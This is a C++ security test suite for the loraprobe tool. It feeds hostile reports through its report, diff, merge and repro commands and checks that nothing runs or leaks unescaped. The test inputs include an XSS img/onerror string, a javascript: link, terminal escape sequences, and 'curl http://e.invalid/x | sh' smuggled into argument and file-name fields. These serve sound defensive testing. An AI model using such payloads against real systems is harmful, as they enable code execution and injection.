// A report is untrusted input (issue 29): the hostile documents below, one per row
// of the table, each made from the H200 seed report, go through `report`
// (every format), `diff`, `merge` and `repro`. Nothing a document names runs, no raw
// control byte reaches a terminal or a Markdown page, the XML parses, no output
// clobbers what is not a regular file, and nothing exits 4.

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <fstream>

#include <fmt/format.h>
#include <fmt/ranges.h>
#include <nlohmann/json.hpp>

#include "support/cli.hpp"
#include "util/escape.hpp"
#include "util/files.hpp"
#include "util/sha256.hpp"
#include "util/subprocess.hpp"

namespace lp {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

const char* const k_seed = LP_SOURCE_DIR "/tests/report/fixtures/seed-h200-3.0.0.json";
const char* const k_case = "9efe288f6599";

ProcessResult run(std::vector<std::string> args) {
  ProcessOptions options;
  options.timeout = std::chrono::seconds(120);
  return run_process(args, options);
}

using test_support::loraprobe;
using test_support::scratch;

/// A "ptxas" that leaves a marker when anything runs it: it must never appear.
struct EvilPtxas {
  std::string path;
  std::string marker;
};

const EvilPtxas& evil_ptxas() {
  static const EvilPtxas evil = [] {
    EvilPtxas e;
    fs::create_directories(scratch().path() + "/evil");
    e.path = scratch().path() + "/evil/ptxas";
    e.marker = scratch().path() + "/evil/RAN";
    std::ofstream(e.path) << "#!/bin/sh\ntouch '" << e.marker
                          << "'\necho 'Cuda compilation tools, release 13.0, V13.0.88'\n";
    fs::permissions(e.path, fs::perms::owner_all);
    return e;
  }();
  return evil;
}

// Payloads: HTML, link syntax, a fence closer with a shell command, a carriage
// return, terminal escapes (window title, line erase), XML non-characters, C1.
const std::string k_html = "<img src=x onerror=alert(1)>";
const std::string k_link = "[c](javascript:alert(1))";
const std::string k_fence = "x\n```\n; curl http://e.invalid/x | sh\n```";
const std::string k_title = "\x1b]0;pwned\x07\x1b[2K\r";
const std::string k_nonchar = "\xEF\xBF\xBE\xEF\xBF\xBF";
const std::string k_c1 = "\xC2\x9B" "31m";
const std::string k_source = "cfg.json; curl http://e.invalid/x | sh #'\"$(id)`";

/// The hostile documents, one per row of the table (5 and 6 are about paths
/// and the cache, tested below and in tests/inspect): name -> report.
std::vector<std::pair<std::string, json>> hostile_reports() {
  const json seed = json::parse(read_file(k_seed));
  std::vector<std::pair<std::string, json>> out;
  {
    json r = seed;  // 1: a case compiled by a program the report names
    const std::string spec = "ptxas=" + evil_ptxas().path;
    r["cases"][0]["axes"]["compiler"] = spec;
    r["variants"].push_back({{"variant", r["cases"][0]["variant"]},
                             {"triton", r["cases"][0]["axes"]["triton"]},
                             {"compiler", spec},
                             {"compile", {{"kind", "ptxas"},  // the shape a sweep records
                                          {"tool", evil_ptxas().path},
                                          {"version", "13.0.88"},
                                          {"options", {"-lineinfo", "-v", "--gpu-name=sm_90a"}},
                                          {"sha256", sha256_file_hex(evil_ptxas().path)}}}});
    out.emplace_back("row1-compiler-path", r);
  }
  {
    json r = seed;  // 2: Markdown and shell
    r["meta"]["argv"] = json::array({"loraprobe", "sweep", "--config", k_fence, k_html, k_link + "\r"});
    r["meta"]["config"]["source"] = k_source;
    r["cases"][0]["reason"] = k_html + " " + k_link + " \r| cell |";
    out.emplace_back("row2-markdown-shell", r);
  }
  {
    json r = seed;  // 3: the terminal
    r["environment"]["gpu"]["name"] = "NVIDIA H200" + k_title + k_c1;
    r["meta"]["argv"].push_back(k_title);
    r["cases"][0]["reason"] = "reason" + k_title;
    out.emplace_back("row3-terminal", r);
  }
  {
    json r = seed;  // 4: XML
    r["environment"]["gpu"]["name"] = "H200" + k_nonchar + k_c1 + "\x01";
    r["cases"][0]["reason"] = "bad" + k_nonchar + "\x0b";
    r["cases"][0]["verdict"] = "FAIL";
    out.emplace_back("row4-xml", r);
  }
  return out;
}

/// Markdown without its fenced blocks (inside them text is shown, never rendered):
/// a fence closes on a line of at least as many backticks as opened it.
std::string outside_fences(const std::string& markdown) {
  std::string out;
  std::size_t open = 0;  // the fence's length while inside one
  std::size_t start = 0;
  while (start < markdown.size()) {
    const std::size_t end = std::min(markdown.find('\n', start), markdown.size());
    const std::string line = markdown.substr(start, end - start);
    const std::size_t ticks = line.find_first_not_of('`') == std::string::npos ? line.size() : line.find_first_not_of('`');
    if (open == 0 && ticks >= 3) {
      open = ticks;
    } else if (open > 0 && ticks >= open && ticks == line.size()) {
      open = 0;
    } else if (open == 0) {
      out += line + "\n";
    }
    start = end + 1;
  }
  return out;
}

/// `needle` somewhere in the rendered part of `markdown` without a backslash escape before it.
bool unescaped(const std::string& markdown, const std::string& needle) {
  const std::string text = outside_fences(markdown);
  for (std::size_t at = text.find(needle); at != std::string::npos; at = text.find(needle, at + 1)) {
    if (at == 0 || text[at - 1] != '\\') {
      return true;
    }
  }
  return false;
}

bool has_raw_control(const std::string& text) {
  return escape::terminal(text) != text;  // anything terminal() would show escaped
}

std::string write_report(const std::string& name, const json& r) {
  const std::string path = scratch().path() + "/" + name + ".json";
  std::ofstream(path) << r.dump();
  return path;
}

TEST(Security, HostileReportsGoThroughEveryReaderSafely) {
  for (const auto& [name, report] : hostile_reports()) {
    const std::string path = write_report(name, report);
    for (const char* format : {"summary", "md", "html", "junit", "json"}) {
      const ProcessResult r = loraprobe({"report", path, "--format", format});
      EXPECT_EQ(r.exit_code, 0) << name << " " << format << ": " << r.err;
      if (std::string(format) == "summary" || std::string(format) == "md") {
        EXPECT_FALSE(has_raw_control(r.out)) << name << " " << format << ":\n" << r.out;
      }
      if (std::string(format) == "md") {
        EXPECT_FALSE(unescaped(r.out, "<img")) << name;
        EXPECT_FALSE(unescaped(r.out, "](javascript:")) << name;
        // The command's fence is longer than the argument's backtick run: the
        // argument stays inside it (one sh-quoted word), whatever lines it spans.
        if (name == "row2-markdown-shell") {
          EXPECT_NE(r.out.find("## Command\n\n````sh\n"), std::string::npos) << r.out;
          EXPECT_NE(r.out.find("'x\n```\n; curl http://e.invalid/x | sh\n```'"), std::string::npos) << r.out;
        }
      }
      if (std::string(format) == "json") {
        // Issue 53: JSON carried U+009B (a terminal's CSI) raw; it is written \u009b.
        EXPECT_EQ(r.out.find("\xC2\x9B"), std::string::npos) << name;
        if (name == "row3-terminal" || name == "row4-xml") {
          EXPECT_NE(r.out.find("\\u009b31m"), std::string::npos) << name;
        }
      }
      if (std::string(format) == "junit" || std::string(format) == "html") {
        EXPECT_EQ(r.out.find("\xEF\xBF\xBE"), std::string::npos) << name;
        EXPECT_EQ(r.out.find("\x1b"), std::string::npos) << name;
      }
      if (std::string(format) == "junit") {
        const std::string xml = scratch().path() + "/" + name + ".xml";
        std::ofstream(xml) << r.out;
        const ProcessResult parsed =
            run({"python3", "-c", "import sys, xml.dom.minidom; xml.dom.minidom.parse(sys.argv[1])", xml});
        EXPECT_EQ(parsed.exit_code, 0) << name << ": " << parsed.err;
      }
    }
    const ProcessResult d = loraprobe({"diff", k_seed, path});
    EXPECT_NE(d.exit_code, 4) << name << ": " << d.err;
    EXPECT_FALSE(has_raw_control(d.out)) << name << ":\n" << d.out;
    EXPECT_FALSE(has_raw_control(d.err)) << name << ":\n" << d.err;
    const ProcessResult m = loraprobe({"merge", path, "-o", scratch().path() + "/merged-" + name + ".json"});
    EXPECT_NE(m.exit_code, 4) << name << ": " << m.err;
    EXPECT_FALSE(has_raw_control(m.err)) << name << ":\n" << m.err;
    const std::string bundle = scratch().path() + "/bundle-" + name;
    const ProcessResult b = loraprobe({"repro", path, k_case, "--out", bundle});
    EXPECT_NE(b.exit_code, 4) << name << ": " << b.err;
    EXPECT_FALSE(has_raw_control(b.out + b.err)) << name;
    if (b.exit_code == 0) {
      EXPECT_FALSE(has_raw_control(read_file(bundle + "/README.md"))) << name;
    }
  }
  EXPECT_FALSE(fs::exists(evil_ptxas().marker)) << "a program named in a report ran";
}

// Row 1: before, repro ran the report's ptxas twice (--version, then the compile).
TEST(Security, ReproNeverRunsAPtxasTheReportNames) {
  const std::string path = write_report("repro-evil", hostile_reports()[0].second);
  const ProcessResult r = loraprobe({"repro", path, k_case, "--out", scratch().path() + "/repro-evil"});
  EXPECT_EQ(r.exit_code, 2) << r.err;
  EXPECT_NE(r.err.find("loraprobe does not run a program a report names; pass --ptxas PATH"), std::string::npos)
      << r.err;
  EXPECT_FALSE(fs::exists(evil_ptxas().marker));
  // A report whose recorded sha256 is a ptxas found here (the toolkit's): that binary
  // rebuilds the case, whatever path the report names.
  const std::string toolkit_ptxas = "/usr/local/cuda/bin/ptxas";
  if (fs::exists(toolkit_ptxas)) {
    json report = hostile_reports()[0].second;
    report["variants"].back()["compile"]["sha256"] = sha256_file_hex(toolkit_ptxas);
    const std::string matched = write_report("repro-matched", report);
    const std::string bundle = scratch().path() + "/repro-matched";
    const ProcessResult m = loraprobe({"repro", matched, k_case, "--out", bundle});
    EXPECT_EQ(m.exit_code, 0) << m.err;
    EXPECT_FALSE(fs::exists(evil_ptxas().marker));
    const std::string ptxas_txt = read_file(bundle + "/ptxas.txt");
    EXPECT_NE(ptxas_txt.find("sha256:  " + sha256_file_hex(toolkit_ptxas)), std::string::npos) << ptxas_txt;
  }
  // Naming it on the command line is trusting it: then it is matched by sha256 and runs.
  const ProcessResult named = loraprobe(
      {"repro", path, k_case, "--out", scratch().path() + "/repro-named", "--ptxas", evil_ptxas().path});
  EXPECT_TRUE(fs::exists(evil_ptxas().marker)) << named.err;
  fs::remove(evil_ptxas().marker);
}

// Row 1, the other documents: a config's or a journal's ptxas path runs only when
// the command line names it too.
TEST(Security, AConfigsPtxasPathRunsOnlyWhenTheCommandLineNamesIt) {
  const std::string config = scratch().path() + "/evil-config.json";
  std::ofstream(config) << json{{"name", "evil"},
                                {"axes", {{"op", {"expand"}}, {"compiler", {"ptxas=" + evil_ptxas().path}}}}}
                               .dump();
  const ProcessResult r = loraprobe({"sweep", "--config", config, "--dry-run"});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("not named on this command line, so not run"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(evil_ptxas().marker));
}

// Row 2: the repro README's commands are quoted for sh; its fences cannot be closed.
TEST(Security, ReproReadmeCommandsRoundTripThroughSh) {
  json report = hostile_reports()[1].second;
  const std::string path = write_report("repro-shell", report);
  const std::string bundle = scratch().path() + "/repro-shell";
  const ProcessResult r = loraprobe({"repro", path, k_case, "--out", bundle});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  const std::string readme = read_file(bundle + "/README.md");
  const std::string prefix = "loraprobe sweep --config ";
  std::size_t at = readme.find(prefix + "'");
  ASSERT_NE(at, std::string::npos) << readme;
  const std::string line = readme.substr(at, readme.find('\n', at) - at);
  EXPECT_EQ(run({"sh", "-n", "-c", line}).exit_code, 0) << line;
  const ProcessResult args =
      run({"sh", "-c", "set -- " + line.substr(std::string("loraprobe ").size()) + "; printf '%s\\n' \"$@\""});
  EXPECT_EQ(args.out, fmt::format("sweep\n--config\n{}\n--case\n{}\n--out\nrepro.json\n", k_source, k_case)) << line;
  EXPECT_FALSE(unescaped(readme, "<img"));
  EXPECT_EQ(readme.find('\r'), std::string::npos);
}

/// `loraprobe report SEED -o target` under `umask`, as sh runs it.
ProcessResult report_to(const std::string& target, const std::string& umask = "022") {
  return run({"sh", "-c", fmt::format("umask {}; exec {} report {} --format md -o {}", umask, LP_LORAPROBE, k_seed,
                                      escape::shell(target))});
}

// Row 5: before, these exited 4, replaced device nodes, FIFOs and symlinks, and
// forced mode 0644.
TEST(Security, OutputsNeverClobberWhatIsNotARegularFile) {
  const std::string dir = scratch().path() + "/outputs";
  fs::create_directories(dir);
  for (const std::string& target : {dir + "/missing/x.md", dir, std::string("/dev/null")}) {
    const ProcessResult r = report_to(target);
    EXPECT_EQ(r.exit_code, 3) << target << ": " << r.err;
    EXPECT_NE(r.err.find(target + ": cannot write: "), std::string::npos) << r.err;
  }
  struct stat st {};
  ASSERT_EQ(::stat("/dev/null", &st), 0);
  EXPECT_TRUE(S_ISCHR(st.st_mode));
  const std::string fifo = dir + "/fifo";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  EXPECT_EQ(report_to(fifo).exit_code, 3);
  ASSERT_EQ(::lstat(fifo.c_str(), &st), 0);
  EXPECT_TRUE(S_ISFIFO(st.st_mode));
  // A symlink to a file: the file is replaced, the link stays.
  const std::string file = dir + "/real.md";
  std::ofstream(file) << "old";
  fs::create_symlink(file, dir + "/link.md");
  ASSERT_EQ(report_to(dir + "/link.md").exit_code, 0);
  EXPECT_TRUE(fs::is_symlink(dir + "/link.md"));
  EXPECT_NE(read_file(file).find("# loraprobe"), std::string::npos);
  fs::create_symlink(dir + "/nothing", dir + "/dangling.md");
  EXPECT_EQ(report_to(dir + "/dangling.md").exit_code, 3);
  // Modes: a replaced file keeps its own; a new one follows the umask.
  fs::permissions(file, fs::perms::owner_read | fs::perms::owner_write);
  ASSERT_EQ(report_to(file).exit_code, 0);
  ASSERT_EQ(::stat(file.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600U);
  ASSERT_EQ(report_to(dir + "/new.md", "077").exit_code, 0);
  ASSERT_EQ(::stat((dir + "/new.md").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600U);
  ASSERT_EQ(report_to(dir + "/new-022.md", "022").exit_code, 0);
  ASSERT_EQ(::stat((dir + "/new-022.md").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0644U);
  // repro --out onto a file: exit 3, the file untouched.
  const ProcessResult r = loraprobe({"repro", k_seed, k_case, "--out", file});
  EXPECT_EQ(r.exit_code, 3) << r.err;
  EXPECT_NE(read_file(file).find("# loraprobe"), std::string::npos);
}

// Issue 53: `report ... -o ''` wrote to stdout and exited 0. An empty path is one
// line and exit 2 for every flag that names an output.
TEST(Security, AnEmptyOutputPathIsRefusedByEveryCommand) {
  const std::string out = scratch().path() + "/empty-flag-out.json";
  const std::vector<std::vector<std::string>> commands = {
      {"report", k_seed, "-o", ""},
      {"report", k_seed, "--format", "json", "--out", ""},
      {"merge", k_seed, "-o", ""},
      {"merge", k_seed, "-o", out, "--markdown", ""},
      {"merge", k_seed, "-o", out, "--html", ""},
      {"merge", k_seed, "-o", out, "--junit", ""},
      {"repro", k_seed, k_case, "--out", ""},
      {"sweep", "--dry-run", "--out", ""},
      {"sweep", "--dry-run", "--junit", ""},
      {"sweep", "--dry-run", "--markdown", ""},
      {"sweep", "--dry-run", "--html", ""},
      {"inspect", "--junit", ""},
      {"inspect", "--markdown", ""},
      {"inspect", "--html", ""},
      {"check", "-o", ""},
      {"check", "--markdown", ""},
      {"check", "--junit", ""},
      {"check", "--keep", ""},
      {"check", "--run-report", ""},
  };
  for (const std::vector<std::string>& args : commands) {
    const std::string flag = args[args.size() - 2];
    const ProcessResult r = loraprobe(args);
    EXPECT_EQ(r.exit_code, 2) << args[0] << " " << flag << ": " << r.err;
    EXPECT_TRUE(r.out.empty()) << args[0] << " " << flag << " wrote: " << r.out.substr(0, 200);
    EXPECT_NE(r.err.find(": an empty value: give one, or leave the option out\n"), std::string::npos)
        << args[0] << " " << flag << ": " << r.err;
    EXPECT_EQ(std::count(r.err.begin(), r.err.end(), '\n'), 1) << r.err;
  }
  EXPECT_FALSE(fs::exists(out));
}

}  // namespace
}  // namespace lp

namespace lp {
namespace {

// Row 7: SIGHUP used to kill the run outright, leaving $TMPDIR/loraprobe-ptxas-*;
// `timeout -s INT` (which signals the process and then its group, so the signal
// arrives twice) hit "second signal: exiting at once" and left ptxas running. Now
// every signal is handled and the second one still cleans up.
TEST(Security, SignalsLeaveNoChildAndNoTemporaryFolder) {
  if (run({LP_LORAPROBE, "env"}).out.find("nvdisasm") == std::string::npos ||
      run({"sh", "-c", "command -v timeout"}).exit_code != 0) {
    GTEST_SKIP() << "skipped: no nvdisasm or no timeout";
  }
  for (const char* sig : {"INT", "HUP", "TERM"}) {
    const std::string tmp = scratch().path() + "/signal-" + sig;
    fs::create_directories(tmp);
    // The whole embedded set under the toolkit's ptxas, uncached: minutes of ptxas
    // runs, so the signal lands while some are running.
    const ProcessResult r = run(
        {"sh", "-c",
         fmt::format("TMPDIR={} timeout --preserve-status -s {} 3 {} inspect --no-cache --compiler ptxas=toolkit "
                     ">/dev/null; echo \"exit $?\"",
                     escape::shell(tmp), sig, LP_LORAPROBE)});
    const int expected = 128 + (std::string(sig) == "INT" ? 2 : std::string(sig) == "HUP" ? 1 : 15);
    EXPECT_EQ(r.out, fmt::format("exit {}\n", expected)) << sig << ": " << r.err;
    EXPECT_EQ(r.err.find("exiting at once"), std::string::npos) << r.err;
    ::usleep(200 * 1000);
    std::vector<std::string> left;
    for (const auto& entry : fs::directory_iterator(tmp)) {
      left.push_back(entry.path().filename().string());
    }
    EXPECT_TRUE(left.empty()) << sig << ": left in TMPDIR: " << fmt::format("{}", fmt::join(left, ", "));
    // No ptxas of that run is still running (their temporary paths name the folder).
    EXPECT_NE(run({"pgrep", "-f", tmp}).exit_code, 0) << sig << ": a child outlived the run";
  }
}

}  // namespace
}  // namespace lp
